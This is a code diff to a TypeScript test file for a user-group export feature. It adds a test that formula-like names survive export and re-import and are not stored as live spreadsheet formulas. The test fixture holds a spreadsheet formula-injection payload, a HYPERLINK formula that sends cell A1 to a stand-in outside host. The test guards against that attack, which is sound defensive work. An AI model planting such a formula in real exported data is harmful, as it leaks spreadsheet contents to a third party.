@@ -1,4 +1,4 @@
-import { read, utils, write } from 'xlsx';
+import { read as parse, utils, write } from 'xlsx';
 import { afterAll, beforeEach, describe, expect, it } from 'vitest';
 import { FILE_LIMIT_BYTES } from '../../sandbox/formats/upload.ts';
 import {
@@ -29,7 +29,7 @@ const MESSAGE = expect.any(String);
 
 /** Reads a file as any spreadsheet program does. */
 function rowsOf(answer: Answer): string[][] {
-  const book = read(answer.bytes, { type: 'buffer', raw: true });
+  const book = parse(answer.bytes, { type: 'buffer', raw: true });
   const sheet = book.Sheets[book.SheetNames[0] ?? ''];
   return sheet ? utils.sheet_to_json<string[]>(sheet, { header: 1, raw: true, defval: '' }) : [];
 }
@@ -89,6 +89,24 @@ describe('an exported list', () => {
     expect(answer.headers['content-disposition']).toContain('.xlsx"');
     expect(rowsOf(answer)).toEqual(rowsOf(await admin.get('users/groups/?format=csv')));
   });
+
+  it.each(FORMATS)(
+    'keeps what spreadsheets take for formulas, and reads it back: %s',
+    async (format) => {
+      const name = '=HYPERLINK("http://elsewhere.example/?"&A1,"x")';
+      const comment = '@SUM(1+1)';
+      await admin.post('users/groups/', { name, comment });
+      const exported = await admin.get(`users/groups/?format=${format}&search=HYPERLINK`);
+      const [header = [], row = []] = rowsOf(exported);
+      expect(row[header.indexOf('*Name')]).toBe(name);
+      const read = await upload('POST', 'users/groups/render-to-json/', exported.bytes, format);
+      expect(at(read.body, 'data', 0)).toMatchObject({ name, comment });
+      if (format === 'csv') return;
+      const book = parse(exported.bytes, { type: 'buffer' });
+      const cells = Object.values(book.Sheets[book.SheetNames[0] ?? ''] ?? {});
+      expect(cells.filter((cell) => at(cell, 'f') !== undefined)).toEqual([]);
+    },
+  );
 
   it.each([
     ['text/csv', 'text/csv; charset=utf-8'],
